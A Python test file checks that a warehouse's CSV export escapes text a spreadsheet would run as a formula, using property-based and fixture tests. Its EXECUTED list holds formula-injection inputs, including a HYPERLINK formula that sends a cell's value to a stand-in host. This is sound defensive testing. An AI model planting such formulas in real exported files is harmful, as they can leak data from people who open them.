"""Texts that a spreadsheet would execute: none is in CSV as it is, and each can be had again."""

from __future__ import annotations

import csv
import re
import shutil
from pathlib import Path

import duckdb
import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from tests.properties import examples
from tests.warehouse.stories import batch_of
from warehouse.export import export
from warehouse.lake import Lake, Publication
from warehouse.spreadsheets import safe, safe_sql
from warehouse.tables import ARTICLES, FIGURES, RAW_ARTICLES

EXECUTED = (
    '=HYPERLINK("http://news.example/?"&A1,"here")',
    "@SUM(1+1)",
    "+x",
    "-1+1",
    "-5",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    "\x00=1+1",
    "＝1+1",
    "＋1",
    "－1",
    "＠a",
    "'=1+1",
    "''@x",
)
LEFT = ("", "5", "plain = text", " =1+1", "'quoted'", "(-5)", "–1", '"=1+1"', "[=1]")
#: What the page of recipes says to a reader who wants the text again.
UNDO = r"^'(?='*[=+\-@\t\r\n\x00＝＋－＠])"


@pytest.mark.parametrize("text", EXECUTED)
def test_what_would_be_executed_gets_an_apostrophe(text: str) -> None:
    assert safe(text) == "'" + text


@pytest.mark.parametrize("text", LEFT)
def test_other_text_stays_as_it_is(text: str) -> None:
    assert safe(text) == text


@given(st.text(alphabet="'=+-@\t\r\n\x00＝＋－＠a5 \"[") | st.text())
@settings(max_examples=examples(300))
def test_every_text_can_be_had_again(text: str) -> None:
    assert re.sub(UNDO, "", safe(text)) == text
    assert not re.match(r"[=+\-@\t\r\n\x00＝＋－＠]", safe(text))


def test_sql_and_python_say_the_same() -> None:
    texts = [*EXECUTED, *LEFT, None]
    with duckdb.connect() as connection:
        connection.execute("CREATE TABLE t (v VARCHAR)")
        connection.executemany("INSERT INTO t VALUES (?)", [[text] for text in texts])
        found = connection.execute(f"SELECT {safe_sql('v')} FROM t").fetchall()
    assert [text for (text,) in found] == [text and safe(text) for text in texts]


@pytest.fixture(scope="module")
def hostile(empty_lake: Path, tmp_path_factory: pytest.TempPathFactory) -> Path:
    """A lake whose articles begin with formulas, and whose figures have negative numbers."""
    folder = Path(shutil.copytree(empty_lake, tmp_path_factory.mktemp("hostile") / "lake"))
    batch = batch_of(range(len(EXECUTED)))
    articles, figures = batch["articles"].to_pylist(), batch["figures"].to_pylist()
    for article, figure, text in zip(articles, figures, EXECUTED, strict=True):
        article.update(title=text, authors=[text, "plain"])
        figure.update(counted=text, value=-5.0, value_low=float("-inf"), value_high=float("nan"))
    batch |= {"articles": ARTICLES.arrow(articles), "figures": FIGURES.arrow(figures)}
    raw = RAW_ARTICLES.row(
        raw_id="a" * 64,
        source_uri="plus",
        source="news",
        media_type="text/plain",
        fetched_at=articles[0]["ingested_at"],
        payload=b"\xf8\x00\x00",  # "+AAA" in base64
        run_id="run-1",
    )
    with Lake.open(folder) as lake:
        lake.add_raws([raw], "run-1")
        lake.publish(Publication(insert=batch), "run-1")
    return folder


def cells(file: Path) -> list[dict[str, str]]:
    with file.open(encoding="utf-8", newline="") as stream:
        return list(csv.DictReader(stream))


def test_exported_csv_holds_no_formula(hostile: Path, tmp_path: Path) -> None:
    names = ["articles", "figures", "figure_details", "raw_articles"]
    export(hostile, tmp_path / "safe", names=names, form="csv")
    export(hostile, tmp_path / "raw", names=names, form="csv", raw_csv=True)
    articles = cells(tmp_path / "safe" / "articles.csv")
    assert {row["title"] for row in articles} == {"'" + text for text in EXECUTED}
    assert all(row["authors"].startswith("[") for row in articles)
    for file in ("figures.csv", "figure_details.csv"):
        for row in cells(tmp_path / "safe" / file):
            assert row["counted"].removeprefix("'") in EXECUTED
            assert (row["value"], row["value_low"], row["value_high"]) == ("-5.0", "-INF", "NaN")
    [raw] = cells(tmp_path / "safe" / "raw_articles.csv")
    assert raw["payload"] == "'+AAA"
    assert {row["title"] for row in cells(tmp_path / "raw" / "articles.csv")} == set(EXECUTED)
    [raw] = cells(tmp_path / "raw" / "raw_articles.csv")
    assert raw["payload"] == "+AAA"
